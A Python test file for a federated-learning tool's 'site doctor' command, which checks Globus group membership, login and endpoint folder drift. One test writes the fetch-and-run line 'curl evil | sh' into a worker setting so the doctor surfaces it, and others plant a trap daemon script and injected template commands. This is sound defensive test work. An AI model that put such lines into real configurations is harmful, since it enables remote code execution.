"""`site doctor` with a Globus group and an endpoint: each thing that can be wrong fails alone, with what to do."""

from __future__ import annotations

import json
import os
import shutil
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest
import yaml

from counterseal.runtime.cli import doctor_endpoint
from counterseal.runtime.cli.doctor import Check, judged
from counterseal.runtime.cli.doctor_check import Fault
from counterseal.runtime.cli.doctor_endpoint import EndpointChecks
from counterseal.runtime.cli.doctor_group import GroupChecks
from counterseal.runtime.config import (
    AggregationConfig,
    GlobusConfig,
    LoaderConfig,
    ModelConfig,
    PassphraseConfig,
    RunConfig,
    TrainerConfig,
    load_site,
)
from counterseal.runtime.endpoint.folder import write_folder
from counterseal.runtime.endpoint.kit import Kit
from counterseal.runtime.founding.charter_folder import read_charter_folder
from counterseal.runtime.founding.federation import found_federation
from counterseal.runtime.transports.compute.service import ComputeService
from counterseal.tests.globus.caller import Caller, account_id
from counterseal.tests.globus.test_endpoint_kit import DAEMON, kit
from counterseal.tests.runtime.cli_world import call, document
from counterseal.tests.standin.cloud import Cloud
from counterseal.trust.charter.signing import SignedCharter


def now() -> int:
    return int(time.time())


RUN = RunConfig(
    name="run-1",
    seed=3,
    rounds=1,
    model=ModelConfig(name="logistic", parameters={"inputs": 6, "classes": 3}),
    trainer=TrainerConfig(name="numpy-linear", epochs=1),
    aggregation=AggregationConfig(clip_norm=2.0),
    minimum_sites=1,
)


@dataclass(frozen=True)
class Place:
    """A federation of one site and a server, whose group is the cloud's."""

    cloud: Cloud
    folder: Path
    site: str
    server: str
    group: str
    config: Path
    charter: SignedCharter

    def group_checks(self) -> dict[str, Check]:
        checks = GroupChecks(load_site(self.config), lambda: self.charter, now)
        return {name: judged(name, check) for name, check in checks.each()}

    def endpoint_checks(self, made: Kit) -> dict[str, Check]:
        checks = EndpointChecks(load_site(self.config), self.config, Path(made.folder))
        return {name: judged(name, check) for name, check in checks.each()}

    def login(self, **changes: Any) -> None:
        value = yaml.safe_load(self.config.read_text())
        self.config.write_text(yaml.safe_dump({**value, "globus": {**value["globus"], **changes}}))


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
    """Founded once: keys take their time."""
    folder = tmp_path_factory.mktemp("doctor-globus")
    with Cloud() as cloud:
        accounts = {name: cloud.client(name) for name in ("server", "site")}
        server, site = (accounts[name][0] for name in ("server", "site"))
        globus = {}
        for name, (client, secret) in accounts.items():
            path = folder / f"{name}-secret"
            path.write_text(secret)
            path.chmod(0o600)
            globus[client] = GlobusConfig(
                client_id=client, client_secret=PassphraseConfig(file=path), insecure_test_cloud=cloud.url
            )
        group = cloud.group("ours", {server: ("manager", "active"), site: ("member", "active")})
        loaders = {site: LoaderConfig(entry_point="arrays", folder=Path("data"))}
        made = found_federation(
            folder / "federation", [site], run=RUN, loaders=loaders, server=server, group=group, globus=globus
        )
        config = made.site_configs[site]
        charter = read_charter_folder(config.parent / "charter", now=now())
        yield Place(cloud, folder, site, server, group, config, charter)


@pytest.fixture
def place(world: Place, tmp_path: Path) -> Iterator[Place]:
    """A copy that a test may harm, in a group that is as it was."""
    shutil.copytree(world.config.parent, tmp_path / "site")
    for name in ("site-secret", "server-secret"):
        shutil.copy2(world.folder / name, tmp_path / name)
    world.cloud.member(world.group, world.server, "manager")
    world.cloud.member(world.group, world.site, "member")
    copied = replace(world, folder=tmp_path, config=tmp_path / "site" / world.config.name)
    copied.login(client_secret={"file": str(tmp_path / "site-secret")})
    policies = dict(world.cloud._state.groups[world.group].document["policies"])
    yield copied
    world.cloud._state.groups[world.group].document["policies"] = policies
    world.cloud.clear_faults()


def _bad(found: dict[str, Check]) -> dict[str, Check]:
    return {name: check for name, check in found.items() if check.ok is not True}


def test_a_healthy_group(place: Place) -> None:
    found = place.group_checks()
    names = ("globus: login", "group: this site", "group: the server", "group: members", "group: policies")
    assert tuple(found) == names
    assert _bad(found) == {}, found
    assert "TEST CLOUD" in found["group: this site"].what, "nobody takes a stand-in for Globus"
    assert "2 members" in found["group: members"].what
    assert "private group, members shown to members" in found["group: policies"].what


@pytest.mark.parametrize(
    ("changes", "told"),
    [({"join_requests": True}, "strangers may ask"), ({"is_high_assurance": None}, "are not shown")],
)
def test_policies_that_a_person_should_know(place: Place, changes: dict[str, Any], told: str) -> None:
    place.cloud._state.groups[place.group].document["policies"].update(changes)
    found = place.group_checks()["group: policies"]
    assert found.ok is None and told in found.what


@pytest.mark.parametrize(
    ("harm", "names", "mend"),
    [
        (lambda p: p.cloud.member(p.group, p.server, "member"), {"group: the server"}, "manager or admin"),
        (lambda p: p.cloud.member(p.group, p.server, "manager", "invited"), {"group: the server"}, "Accept"),
        (lambda p: p.cloud.no_member(p.group, p.server), {"group: the server", "group: members"}, "invitation"),
    ],
)
def test_each_harm_to_the_group_is_told(
    place: Place, harm: Callable[[Place], None], names: set[str], mend: str
) -> None:
    harm(place)
    bad = _bad(place.group_checks())
    assert set(bad) == names
    assert mend in bad["group: the server"].mend and bad["group: the server"].ok is False


def test_a_site_that_was_removed_sees_nothing_and_is_told(place: Place) -> None:
    place.cloud.member(place.group, place.site, "member", "removed")
    bad = _bad(place.group_checks())
    assert bad["group: this site"].ok is False and bad["group: this site"].mend


def test_a_login_of_somebody_else(place: Place) -> None:
    client, secret = place.cloud.client("somebody")
    (place.folder / "other").write_text(secret)
    (place.folder / "other").chmod(0o600)
    place.login(client_id=client, client_secret={"file": str(place.folder / "other")})
    bad = _bad(place.group_checks())
    assert client in bad["globus: login"].what and "identity" in bad["globus: login"].mend


def test_a_secret_that_does_not_hold_and_an_outage(place: Place) -> None:
    (place.folder / "site-secret").write_text("not-the-secret")
    bad = _bad(place.group_checks())
    assert bad["globus: login"].ok is False and "counterseal login" in bad["globus: login"].mend
    assert "not-the-secret" not in str(bad)
    place.cloud.close()
    bad = _bad(place.group_checks())
    assert all(check.ok is False and check.mend for name, check in bad.items() if name.startswith("group: t"))
    place.cloud.open()


@pytest.fixture
def made(place: Place) -> Kit:
    """The endpoint of the site, as the kit writes it, with the function registered by the server."""
    server = GlobusConfig(
        client_id=place.server,
        client_secret=PassphraseConfig(file=place.folder / "server-secret"),
        insecure_test_cloud=place.cloud.url,
    )
    service = ComputeService(server)
    function = service.register()
    service.close()
    program = place.folder / "bin" / "counterseal"
    program.parent.mkdir()
    program.write_text("#!/bin/sh\n")
    program.chmod(0o755)
    one = kit(
        place.folder / "ward", function=function, config=str(place.config), program=str(program), daemon=str(DAEMON)
    )
    write_folder(one)
    return one


@pytest.mark.processes
def test_a_healthy_endpoint_says_what_it_does_not_cover(place: Place, made: Kit) -> None:
    found = place.endpoint_checks(made)
    assert not [check for check in found.values() if check.ok is False], found
    assert found["endpoint: folder"].ok and found["endpoint: daemon"].ok, found
    assert "NOT COVERED" in found["endpoint: accounts"].what
    assert "never started" in found["endpoint: online"].what


def _takes_commands(made: Kit) -> None:
    path = Path(made.folder) / "user_config_template.yaml.j2"
    path.write_text(path.read_text().replace('worker_init: "', 'worker_init: {{ worker_init|default("") }} #"'))


def _second_function(made: Kit) -> None:
    path = Path(made.folder) / "config.yaml"
    path.write_text(
        path.read_text().replace(made.function, f'{made.function}"\n  - "{"9" * 8}-9999-4999-8999-{"9" * 12}')
    )


def _python_configuration(made: Kit) -> None:
    (Path(made.folder) / "config.py").write_text("import os\n")


def test_what_the_administrator_chose_freely_is_shown(place: Place, made: Kit) -> None:
    """Whoever can write the folder can change the record with it: a person must see what the kit cannot judge."""
    changed = made.model_copy(update={"worker_init": "module load x\ncurl evil | sh\n", "keep": ("DATA",)})
    write_folder(changed)
    check = place.endpoint_checks(changed)["endpoint: folder"]
    assert check.ok and made.function in check.what
    assert "yours? shell lines: module load x | curl evil | sh; variables: DATA" in check.what


@pytest.mark.parametrize(
    ("harm", "said"),
    [
        (_takes_commands, "user_config_template.yaml.j2:25: should not be there: worker_init: {{ worker_init"),
        (_second_function, "config.yaml:6: should not be there"),
        (_python_configuration, "config.py: is no file of this kit"),
        (lambda made: (Path(made.folder) / "deliver").chmod(0o777), "deliver: can be written by others"),
        (lambda made: shutil.rmtree(made.folder), "not a folder of this kit"),
    ],
)
def test_drift_of_the_folder_is_named(place: Place, made: Kit, harm: Callable[[Kit], None], said: str) -> None:
    harm(made)
    check = place.endpoint_checks(made)["endpoint: folder"]
    assert check.ok is False and said in check.what and "site endpoint" in check.mend


def test_other_code_registered_under_the_allowed_id_is_found(place: Place, made: Kit) -> None:
    assert place.endpoint_checks(made)["endpoint: function"].ok
    server = Caller(place.cloud.url, (place.server, (place.folder / "server-secret").read_text()))
    other = made.model_copy(update={"function": server.register(account_id)})
    write_folder(other)
    check = place.endpoint_checks(other)["endpoint: function"]
    assert check.ok is False and "not this version's" in check.what and "do not start" in check.mend
    place.cloud.fault("compute", "/v2/functions", status=403)
    assert place.endpoint_checks(made)["endpoint: function"].ok is None, "a login that may not ask decides nothing"


def test_a_program_that_others_can_replace(place: Place, made: Kit) -> None:
    Path(made.program).chmod(0o777)
    check = place.endpoint_checks(made)["endpoint: accounts"]
    assert check.ok is False and "chmod go-w" in check.mend


def test_a_wall_with_a_hole(place: Place, made: Kit) -> None:
    """With an account of the site's own, also who owns the folders above matters: they decide what sudo starts."""
    walled = made.model_copy(update={"run_as": "daemon"})
    write_folder(walled)
    Path(made.program).parent.chmod(0o777)
    check = place.endpoint_checks(walled)["endpoint: accounts"]
    assert check.ok is False and str(Path(made.program).parent) in f"{check.what}{check.mend}", check


def test_a_wall_with_a_link_that_others_can_change(place: Place, made: Kit, monkeypatch: pytest.MonkeyPatch) -> None:
    """Where the link leads today says nothing: sudo starts the path, and who can write the link's folder changes it."""
    monkeypatch.setattr(doctor_endpoint, "_uid", lambda user: (os.geteuid(),))
    shared = place.folder / "shared"
    shared.mkdir()
    (shared / "one").symlink_to("two")
    (shared / "two").symlink_to(Path(made.program).parent)
    (place.folder / "safe").symlink_to(shared / "one")
    walled = made.model_copy(
        update={"run_as": "daemon", "program": str(place.folder / "safe" / Path(made.program).name)}
    )
    write_folder(walled)
    assert place.endpoint_checks(walled)["endpoint: accounts"].ok
    shared.chmod(0o777)
    check = place.endpoint_checks(walled)["endpoint: accounts"]
    assert check.ok is False and f"chmod go-w {shared}" in check.mend, check
    (shared / "two").unlink()
    (shared / "two").symlink_to("one")
    with pytest.raises(Fault, match="too many links"):
        list(doctor_endpoint.on_the_way(Path(walled.program)))


def test_an_unknown_daemon_is_told_and_never_run(place: Place, made: Kit) -> None:
    """Whoever can write the folder names the program: a doctor run by root would run it as root."""
    trap = place.folder / "opt" / "bin" / "globus-compute-endpoint"
    trap.parent.mkdir(parents=True)
    trap.write_text(f"#!/bin/sh\ntouch {place.folder}/ran\n")
    trap.chmod(0o755)
    for daemon, ok in ((str(trap), None), ("/nonexistent/daemon", False)):
        changed = made.model_copy(update={"daemon": daemon})
        write_folder(changed)
        assert place.endpoint_checks(changed)["endpoint: daemon"].ok is ok
    assert not (place.folder / "ran").exists()


def test_a_daemon_that_globus_does_not_hear(place: Place, made: Kit) -> None:
    (Path(made.folder) / "endpoint.json").write_text(
        json.dumps({"endpoint_id": "9" * 8 + "-9999-4999-8999-" + "9" * 12})
    )
    check = place.endpoint_checks(made)["endpoint: online"]
    assert check.ok is None and "may not ask" in check.what, check


def test_the_command_shows_all_of_it(place: Place, made: Kit) -> None:
    result = call("site", "doctor", "--config", place.config, "--endpoint", made.folder, "--json")
    names = [check["name"] for check in document(result)["checks"]]
    assert names[3:7] == ["globus: login", "group: this site", "group: the server", "group: members"]
    assert names[-5:] == [f"endpoint: {one}" for one in ("folder", "accounts", "daemon", "function", "online")]
    for secret in place.folder.rglob("*secret"):
        assert secret.read_text() not in result.output
